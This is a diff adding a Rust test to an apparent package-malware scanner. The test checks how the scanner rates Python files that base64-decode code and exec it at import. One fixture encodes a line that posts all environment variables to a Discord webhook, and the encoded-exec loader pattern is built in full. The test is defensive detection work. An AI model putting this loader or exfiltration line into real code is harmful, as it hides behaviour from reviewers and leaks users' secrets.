@@ -2454,3 +2454,41 @@ fn a_file_uploaded_to_an_authors_host_is_exfiltration() {
         assert_eq!(severity_of("lib/core.py", &hook, "exfiltration"), Some(Severity::High), "{hook}");
     }
 }
+
+/// Code a file carries base64-encoded and runs at import is critical while
+/// what it does is hidden. Kept in a variable (`SRC = b64decode(SRC_B64)`)
+/// it is decoded and read too; when everything the file decodes was read
+/// and nothing in it is above medium (a tool shipping its own encoded
+/// source), the hiding is for a reviewer (high). A payload that does harm,
+/// or one beside a constant that decodes to neither code nor text (a
+/// cipher's input), stays critical. Both front-ends. Written for the test.
+#[test]
+fn encoded_code_the_scanner_has_read_is_judged_by_what_it_does() {
+    use base64::Engine;
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let carrier = |code: &str| {
+        format!(
+            "import base64\nSRC_B64 = '{}'\nSRC = base64.b64decode(SRC_B64.encode('ascii'))\nexec(SRC.decode(), globals())\n",
+            b64(code)
+        )
+    };
+    let quiet = carrier("def version():\n    return open('VERSION').read().strip()\n");
+    let harmful =
+        carrier("import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', data=dict(os.environ))\n");
+    let beside = format!(
+        "{quiet}KEY = base64.b64decode('{}')\n",
+        b64("\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{b}\u{c}\u{e}\u{f}\u{10}\u{11}\u{12}\u{13}")
+    );
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{quiet}{tail}");
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/carrier.py", bytes: src.as_bytes() }]);
+        let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("runs decoded code");
+        assert_eq!(f.severity, Severity::High, "{f:#?}");
+        assert!(f.because.iter().any(|b| b.starts_with("read:")), "{f:#?}");
+        let src = format!("{harmful}{tail}");
+        assert_eq!(severity_of("tool/carrier.py", &src, "exec-decoded"), Some(Severity::Critical), "{src}");
+        assert_eq!(severity_of("tool/carrier.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
+        let src = format!("{beside}{tail}");
+        assert_eq!(severity_of("tool/carrier.py", &src, "exec-decoded"), Some(Severity::Critical), "{src}");
+    }
+}
